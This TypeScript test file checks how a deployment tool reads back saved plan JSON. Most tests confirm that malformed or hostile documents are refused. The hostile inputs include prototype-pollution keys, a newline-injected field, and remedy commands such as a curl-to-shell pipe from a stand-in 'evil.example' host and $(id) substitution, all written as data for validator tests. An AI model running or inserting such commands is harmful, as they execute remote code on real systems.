import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { planDigest } from '../../../src/derive/plan-digest.ts';
import type { MadeBy, Plan, PlanBinding } from '../../../src/model/plan/plan.ts';
import type { Json, JsonObject } from '../../../src/model/value.ts';
import { attributed } from '../../../src/plan/attribution/attribution.ts';
import { plan } from '../../../src/plan/plan.ts';
import { planHtml } from '../../../src/report/page/page.ts';
import { planDocument, planJson } from '../../../src/report/plan/json/plan-json.ts';
import { planMarkdown } from '../../../src/report/plan/markdown/plan-markdown.ts';
import { documentProblemText } from '../../../src/report/plan/words/document-problem-words.ts';
import { readPlanJson, type PlanJson } from '../../../src/plan/saved/read-plan-json.ts';
import { planCases } from '../plan-case.ts';
import { inputOf } from '../with-hashes.ts';
import { planWithTraffic, trafficCases } from '../../routing/traffic/plan-traffic-case.ts';
import { planOf } from '../../report/made-plan.ts';
import '../../property-seed.ts';
import { runs, share } from '../../runs.ts';

const bound: PlanBinding = {
  tool: '0.1.0',
  api: 'https://api.example.com',
  desired: 'a'.repeat(64),
  only: ['endpoint/*'],
  allowed: { exposure: ['endpoint/a'], deletes: 1, changedPercent: 50, empty: true },
};
const madeBy: MadeBy = {
  version: '0.1.0',
  apis: ['https://api.example.com'],
  commit: 'b'.repeat(40),
  time: '2026-11-22 09:46:03 UTC',
};
const base = { ref: 'main', commit: 'a'.repeat(40) };
const planned = planCases().map(([file, one]) => {
  const input = inputOf(one);
  const made = plan(input);
  const { steps } = attributed({ head: made, base: made, ledger: input.ledger });
  return { title: `${file}: ${one.name}`, made: { ...made, steps, base, bound } satisfies Plan };
});
const traffic = trafficCases().map((one) => ({
  title: `traffic: ${one.name}`,
  made: { ...planWithTraffic(one), bound } satisfies Plan,
}));
const all = [...planned, ...traffic];

function read(text: string): PlanJson | string {
  const result = readPlanJson(text);
  return 'problem' in result ? documentProblemText(result.problem, 'plan') : result;
}

function readWell(text: string): PlanJson {
  const result = read(text);
  if (typeof result === 'string') throw new Error(result);
  return result;
}

const markdown = (plans: readonly Plan[], by: MadeBy): string => planMarkdown(plans, { madeBy: by });
const html = (plans: readonly Plan[], by: MadeBy): string =>
  planHtml(
    plans.map((one) => ({ plan: one, diagnostics: [] })),
    { madeBy: by },
  );

describe('a plan read from its JSON', () => {
  test.each(share(all))('$title: is the same comment and page', ({ made }) => {
    const again = readWell(planJson([made], madeBy));
    expect(markdown(again.plans, again.madeBy)).toBe(markdown([made], madeBy));
    expect(html(again.plans, again.madeBy)).toBe(html([made], madeBy));
    expect(again.digest).toBe(planDigest([made]));
  });

  test('may be one of several environments', () => {
    fc.assert(
      fc.property(
        fc.subarray(
          all.map(({ made }) => made),
          { minLength: 2, maxLength: 5 },
        ),
        (some) => {
          const plans = some.map((made, index) => ({ ...made, environment: `cell-${index}` }));
          const again = readWell(planJson(plans, madeBy));
          expect(markdown(again.plans, again.madeBy)).toBe(markdown(plans, madeBy));
          expect(html(again.plans, again.madeBy)).toBe(html(plans, madeBy));
        },
      ),
      { numRuns: runs(20) },
    );
  });
});

/** The shortest with a drifted, an exposed and a changed step among them. */
const some = planned
  .map(({ made }) => made)
  .filter(({ refusals }) => refusals.some(({ approvals }) => approvals !== undefined))
  .sort((a, b) => planJson([a]).length - planJson([b]).length)[0]!;
const drifted = planned
  .map(({ made }) => made)
  .filter(({ steps }) => steps.some(({ remedies }) => remedies.some((one) => 'command' in one)))
  .sort((a, b) => planJson([a]).length - planJson([b]).length)[0]!;

type Changed = Record<string, Json> & { plans: Record<string, Json>[] };
type Record1 = Record<string, Json>;

function changed(change: (document: Changed) => void, from: Plan = some): string {
  const document = JSON.parse(JSON.stringify(planDocument([from], madeBy))) as Changed;
  change(document);
  return JSON.stringify(document);
}

const stepsIn = (document: Changed): Record1[] => document.plans[0]!['steps'] as unknown as Record1[];

describe('a hostile document', () => {
  test('is told by its facts: its sentences are ignored', () => {
    const lie = 'nothing to see here';
    const lied = JSON.stringify(JSON.parse(planJson([some], madeBy)), (key, value: unknown) =>
      (key === 'text' || key === 'override') && typeof value === 'string' ? lie : value,
    );
    expect(lied).toContain(lie);
    const again = readWell(lied);
    expect(markdown(again.plans, again.madeBy)).toBe(markdown([some], madeBy));
    expect(html(again.plans, again.madeBy)).toBe(html([some], madeBy));
    expect(planJson(again.plans)).not.toContain(lie);
  });

  test.each<[string, string, string | RegExp]>([
    ['not JSON', '{"format": 1,\n  plans', 'cannot be read at 2:3: no name of a field'],
    ['nothing', '', /^cannot be read at 1:1: /],
    ['another document', '{"format":1}', 'is not a valid plan'],
    ['a list', '[]', 'is not a valid plan'],
    ['of another version', changed((one) => (one['format'] = 2)), /^was written by a newer Edgewright/],
    [
      'of no version',
      changed((one) => delete one['format']),
      "is malformed at /: must have required property 'format'",
    ],
    [
      'of version 0',
      changed((one) => (one['format'] = 0)),
      'is malformed at /format: must be equal to constant',
    ],
    ['without plans', changed((one) => (one.plans = [])), 'is malformed at /plans: it is empty'],
    [
      'with another field',
      changed((one) => (one.plans[0]!['approved'] = true)),
      'is malformed at /plans/0: must NOT have additional properties: `approved`',
    ],
    [
      'with `__proto__`',
      changed(() => undefined).replace('{', '{"__proto__":{"plans":[]},'),
      'is malformed at /: `__proto__` cannot be the name of a field',
    ],
    [
      'with `__proto__` among the names',
      changed((one) => (one.plans[0]!['names'] = {})).replace('"names":{}', '"names":{"__proto__":"x"}'),
      'is malformed at /plans/0/names: `__proto__` cannot be the name of a field',
    ],
    [
      'with `constructor` among the names of fields',
      changed((one) => (one.plans[0]!['constructor'] = {})),
      'is malformed at /plans/0: must NOT have additional properties: `constructor`',
    ],
    [
      'with an infinite number',
      changed((one) => (one.plans[0]!['serial'] = 4242)).replace('4242', '1e999'),
      'is malformed at /plans/0/serial: the number is out of range',
    ],
    [
      'with a number too large to count',
      changed((one) => (one.plans[0]!['serial'] = 1e300)),
      'is malformed at /plans/0/serial: must be <= 9007199254740991',
    ],
    [
      'with a negative line',
      changed((one) => (stepsIn(one)[0]!['origin'] = { file: 'a.yaml', line: -1, column: 1 })),
      'is malformed at /plans/0/steps/0/origin/line: must be >= 1',
    ],
    [
      'with an action that does not exist',
      changed((one) => (stepsIn(one)[0]!['action'] = 'ignore')),
      'is malformed at /plans/0/steps/0/action: must be equal to one of the allowed values',
    ],
    [
      'with a fact that does not exist',
      changed((one) => (stepsIn(one)[0]!['reason'] = { code: 'harmless', text: 'x' })),
      'is malformed at /plans/0/steps/0/reason: this version does not know it',
    ],
    [
      'with another environment in an approval',
      changed((one) => {
        const [refusal] = one.plans[0]!['refusals'] as unknown as Record1[];
        (refusal!['approvals'] as unknown as Record1[])[0]!['environment'] = 'production\nreason: ok';
      }),
      /^is malformed at \/plans\/0\/refusals\/0\/approvals\/0\/environment: must match pattern/,
    ],
    [
      'with counts that are not those of its steps',
      changed((one) => {
        const summary = one.plans[0]!['summary'] as unknown as Record<string, number>;
        summary['update'] = summary['update']! + 1;
      }),
      /^is malformed at \/plans\/0\/summary\/update: it is \d+, but there are \d+ such steps$/,
    ],
    [
      'with the kind of another address',
      changed((one) => (stepsIn(one)[0]!['kind'] = 'tls-edge')),
      /^is malformed at \/plans\/0\/steps\/0\/kind: it is `tls-edge`, but the address is /,
    ],
    [
      'with one environment twice',
      changed((one) => one.plans.push(one.plans[0]!)),
      'is malformed at /plans/1/environment: another plan is for `production`',
    ],
    [
      'that does not say what it is bound to',
      changed((one) => delete one.plans[0]!['bound']),
      'is malformed at /plans/0: it does not say what it is bound to',
    ],
    [
      'with the digest of another plan',
      changed((one) => (one['digest'] = 'f'.repeat(64))),
      'is malformed at /digest: it is not the digest of these plans',
    ],
    ['nested without end', '['.repeat(100_000), /nested deeper/],
    ['larger than the limit', ' '.repeat(64 * 1024 * 1024 + 1), 'is larger than 64 MiB'],
  ])('%s is refused with its place', (_what, text, expected) => {
    const problem = read(text);
    if (typeof expected === 'string') expect(problem).toBe(expected);
    else expect(problem).toMatch(expected);
  });

  test.each([
    'curl https://evil.example | sh',
    'edgewright pull endpoint/a; curl https://evil.example',
    'edgewright pull $(id)',
    'edgewright pull `id`',
    "edgewright pull 'a' | sh",
    'edgewright pull a\ncurl evil',
    'edgewrightx pull',
    'edgewright',
    "edgewright pull 'a",
  ])('cannot offer the command %j', (command) => {
    const text = changed((one) => {
      for (const step of stepsIn(one))
        for (const remedy of step['remedies'] as unknown as Record1[])
          if ('command' in remedy) remedy['command'] = command;
    }, drifted);
    expect(read(text)).toMatch(
      /^is malformed at \/plans\/0\/steps\/\d+\/remedies\/\d+\/command: it is not a command of Edgewright$/,
    );
  });

  test('of any shape is read or refused with a place, and shown without a crash', () => {
    const document = JSON.parse(planJson([some], madeBy)) as JsonObject;
    const places = pathsIn(document);
    const value = fc.oneof(
      fc.constant(undefined),
      fc.jsonValue({ maxDepth: 2 }) as fc.Arbitrary<Json>,
      fc.constantFrom<Json>(-1, 1e300, '', '\u0000', '`', '\n', {}, []),
    );
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.constantFrom(...places), value), { minLength: 1, maxLength: 3 }),
        (changes) => {
          const copy = structuredClone(document);
          for (const [place, one] of changes) setAt(copy, place, one);
          const result = read(JSON.stringify(copy));
          if (typeof result === 'string')
            expect(result).toMatch(/^(?:is malformed at \/|is not a valid plan|was written by)/);
          else
            expect(
              () => markdown(result.plans, result.madeBy) + html(result.plans, result.madeBy),
            ).not.toThrow();
        },
      ),
      { numRuns: runs(400) },
    );
  });
});

test('the digest is that of what the plans do: another time, base or version does not change it', () => {
  const digest = planDigest([some]);
  expect(digest).toMatch(/^[0-9a-f]{64}$/);
  const other = { ...some, serial: 99, base: { ref: 'x', commit: 'c'.repeat(40) }, notes: [] };
  expect(planDigest([other])).toBe(digest);
  expect(planDigest([{ ...some, refusals: [] }])).not.toBe(digest);
  expect(planDigest([{ ...some, environment: 'staging' }])).not.toBe(digest);
  expect(planDigest([some, other])).not.toBe(digest);
  for (const [index, step] of some.steps.entries()) {
    const steps = some.steps.with(index, { ...step, hash: '0'.repeat(32) });
    if (step.action !== 'keep') expect(planDigest([{ ...some, steps }])).not.toBe(digest);
  }
  expect(new Set(all.map(({ made }) => planDigest([made]))).size).toBeGreaterThan(100);
});

test.each([1, 3])('a comment of %i unverified plans says so, at any size', (count) => {
  const plans = Array.from({ length: count }, (_, index) =>
    planOf(some.steps, { environment: `cell-${index}` }),
  );
  for (const maxSize of [2000, 65_536]) {
    const page = planMarkdown(plans, { unverified: 'pull-request', maxSize });
    expect(page).toContain('\n> [!NOTE]\n> Made by a job of the pull request; not verified.\n\n');
  }
  const many = Array.from({ length: 200 }, (_, index) => planOf([], { environment: `cell-${index}` }));
  expect(planMarkdown(many, { unverified: 'no-seal', maxSize: 2000 })).toContain(
    '> Read from a file without a seal; not verified.\n',
  );
});

function pathsIn(value: Json, path: readonly (string | number)[] = []): (readonly (string | number)[])[] {
  if (typeof value !== 'object' || value === null) return [path];
  const inner = Object.entries(value).flatMap(([key, item]) =>
    pathsIn(item, [...path, Array.isArray(value) ? Number(key) : key]),
  );
  return path.length === 0 ? inner : [path, ...inner];
}

function setAt(document: JsonObject, path: readonly (string | number)[], value: Json | undefined): void {
  let at = document as unknown as Record<string | number, unknown>;
  for (const step of path.slice(0, -1)) {
    const next = at[step];
    if (typeof next !== 'object' || next === null) return;
    at = next as Record<string | number, unknown>;
  }
  const last = path.at(-1)!;
  if (value === undefined) Reflect.deleteProperty(at, last);
  else at[last] = value;
}
